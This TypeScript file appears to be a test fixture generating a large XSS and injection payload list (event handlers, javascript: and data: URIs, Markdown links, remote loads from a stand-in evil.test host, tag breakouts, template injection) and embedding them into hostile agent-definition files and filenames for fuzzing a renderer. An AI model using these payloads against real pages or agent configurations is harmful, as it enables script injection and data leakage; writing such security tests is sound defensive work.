/** Texts that would run a script or fetch something if a page took them for more than text. */
export function listPayloads(): string[] {
  const code = 'alert(1)';
  const remote = 'http://evil.test/x';
  const events = [
    'onerror',
    'onload',
    'onfocus',
    'onmouseover',
    'onanimationstart',
    'ontoggle',
    'onpointerenter',
    'onbegin',
  ];
  const tags = [
    'img src=x',
    'svg',
    'body',
    'input autofocus',
    'details open',
    'video src=x',
    'iframe',
    'marquee',
    'a href=x',
    'x contenteditable',
  ];
  const handlers = tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=${code}>`));
  const schemes = [
    `javascript:${code}`,
    `JaVaScRiPt:${code}`,
    `java\tscript:${code}`,
    `java&#x0A;script:${code}`,
    `&#106;avascript:${code}`,
    `\u0001javascript:${code}`,
    ` javascript:${code}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${code}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg onload=${code}>`,
    `blob:${remote}`,
    `file:///etc/passwd`,
    `view-source:${remote}`,
    `//evil.test/x`,
    `\\\\evil.test\\x`,
  ];
  const links = schemes.flatMap((url) => [
    `[x](${url})`,
    `[x](<${url}>)`,
    `![x](${url})`,
    `<${url}>`,
    `[x][y]\n\n[y]: ${url}`,
  ]);
  const remotes = [
    `![x](${remote}.png)`,
    `[![x](${remote}.png)](${remote})`,
    `<img src="${remote}.png">`,
    `<img srcset="${remote}.png 1x">`,
    `<link rel=stylesheet href="${remote}.css">`,
    `<link rel=prefetch href="${remote}">`,
    `<meta http-equiv=refresh content="0;url=${remote}">`,
    `<base href="${remote}/">`,
    `<script src="${remote}.js"></script>`,
    `<iframe src="${remote}"></iframe>`,
    `<object data="${remote}"></object>`,
    `<embed src="${remote}">`,
    `<form action="${remote}"><button>Save</button></form>`,
    `<video poster="${remote}"></video>`,
    `<style>@import "${remote}.css";</style>`,
    `<div style="background:url(${remote})">x</div>`,
    `<a ping="${remote}" href="/">x</a>`,
    `<svg><image href="${remote}.png"/></svg>`,
    `<math href="javascript:${code}">x</math>`,
  ];
  const breaks = [
    `</script><script>${code}</script>`,
    `</title><script>${code}</script>`,
    `</textarea><script>${code}</script>`,
    `</style><script>${code}</script>`,
    `--><script>${code}</script>`,
    `]]><script>${code}</script>`,
    `"><script>${code}</script>`,
    `'><script>${code}</script>`,
    `" onfocus=${code} autofocus x="`,
    `' onfocus=${code} autofocus x='`,
    `\`\${${code}}\``,
    `{{constructor.constructor('${code}')()}}`,
    `\${${code}}`,
    `#{${code}}`,
    `<%= ${code} %>`,
    `\u2028${code}\u2029`,
    `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
    `&lt;script&gt;${code}&lt;/script&gt;`,
    `%3Cscript%3E${code}%3C/script%3E`,
    `<<script>${code}//<</script>`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<svg><script>${code}</script></svg>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
    `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
    `<template><img src=x onerror=${code}></template>`,
    `self.__next_f.push([1,"x"]);${code}`,
    `$L1`,
    `$undefined`,
    `__proto__`,
    `\u202etxt.exe\u202c`,
    `\u0000<script>${code}</script>`,
  ];
  return [...handlers, ...links, ...remotes, ...breaks];
}

/** An agent that says the payload wherever an agent can say something. */
export function formatHostileAgent(payload: string): string {
  const text = JSON.stringify(payload);
  const description = `${payload}\n\n<example>\nContext: ${payload}\nuser: "${payload}"\nassistant: "${payload}"\n<commentary>\n${payload}\n</commentary>\n</example>`;
  return `---\nname: ${text}\ndescription: ${JSON.stringify(description)}\nmodel: ${text}\ncolor: ${text}\ntools: [${text}, Read]\n${text}: ${text}\nhooks: {${text}: ${text}}\n---\n\n# ${payload}\n\n${payload}\n\n- ${payload}\n\n| a |\n|---|\n| ${payload} |\n\n\`\`\`html\n${payload}\n\`\`\`\n`;
}

/** The payload as far as a file can be called so. */
export function formatHostileName(payload: string, index: number): string {
  const name = payload.replaceAll('/', '∕').replaceAll('\0', '').slice(0, 60);
  return `${name} ${index}.md`;
}
